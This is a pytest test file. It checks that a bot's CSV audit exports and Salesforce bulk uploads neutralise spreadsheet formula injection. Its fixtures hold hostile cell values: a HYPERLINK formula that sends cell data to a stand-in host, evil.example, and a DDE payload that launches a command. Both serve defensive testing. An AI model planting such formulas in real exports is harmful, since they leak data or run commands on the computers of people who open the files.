"""Every CSV the bot writes is safe to open in a spreadsheet (OWASP's CSV injection rule)."""

from __future__ import annotations

import asyncio
import csv
import io
import re
from pathlib import Path

import pytest

from bot.cli import main
from bot.csv_export import SafeCsvWriter, safe_cell
from bot.sandbox.stage import PEOPLE, DemoPerson, start_stage
from salesforce.bulk_csv import id_rows
from tests.e2e.steps import submit_request

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = DemoPerson(
    "U0EVE", "eve", '=HYPERLINK("https://evil.example/?x="&A1,"Click")', "eve@acme.com"
)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_is_quoted(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Jane Doe", "a=b", "", 42, -3, None, "x-1", " =1"])
def test_other_cells_are_kept_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_the_writer_quotes_every_cell_of_a_row() -> None:
    out = io.StringIO()
    SafeCsvWriter(out).writerow(["=cmd|' /C calc'!A0", "@SUM(1)", "fine", 7])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [
        "'=cmd|' /C calc'!A0",
        "'@SUM(1)",
        "fine",
        "7",
    ]


# The CSV people open goes through csv_export; Bulk API uploads (record Ids only, checked)
# through salesforce/bulk_csv; the simulated org writes Salesforce's own answers.
CSV_PLACES = {"bot/csv_export.py", "salesforce/bulk_csv.py"}


def test_no_module_writes_csv_past_the_shared_writer() -> None:
    """One obvious place: any other csv.writer or DictWriter would skip the neutralising."""
    writers = re.compile(r"csv\.(writer|DictWriter)\b|from csv import")
    offenders = [
        str(path.relative_to(ROOT))
        for package in ("bot", "handlers", "salesforce", "storage", "bench")
        for path in (ROOT / package).rglob("*.py")
        if str(path.relative_to(ROOT)) not in CSV_PLACES
        and not path.relative_to(ROOT).is_relative_to("bot/sandbox")
        and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def test_a_bulk_upload_holds_only_salesforce_ids() -> None:
    assert id_rows(["Id", "OwnerId"], [["001000000000001AAA", "005000000000001"]]) == (
        "Id,OwnerId\n001000000000001AAA,005000000000001\n"
    )
    with pytest.raises(ValueError, match="not a Salesforce Id"):
        id_rows(["Id", "OwnerId"], [["001000000000001AAA", '=HYPERLINK("x")']])


async def _hostile_request(directory: Path) -> Path:
    stage = await start_stage(directory, people=(*PEOPLE, HOSTILE))
    try:
        await submit_request(stage, HOSTILE.id)
        await stage.settle()
    finally:
        await stage.close()
    return directory / "accessbot.sqlite3"


def test_audit_export_neutralises_a_slack_name_that_is_a_formula(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    path = asyncio.run(_hostile_request(tmp_path / "run"))
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("ACCESSBOT_DATABASE", str(path))
    assert main(["audit", "export", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    submitted = next(r for r in rows if r["action"] == "submitted")
    assert submitted["subject_name"] == "'" + HOSTILE.real_name
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
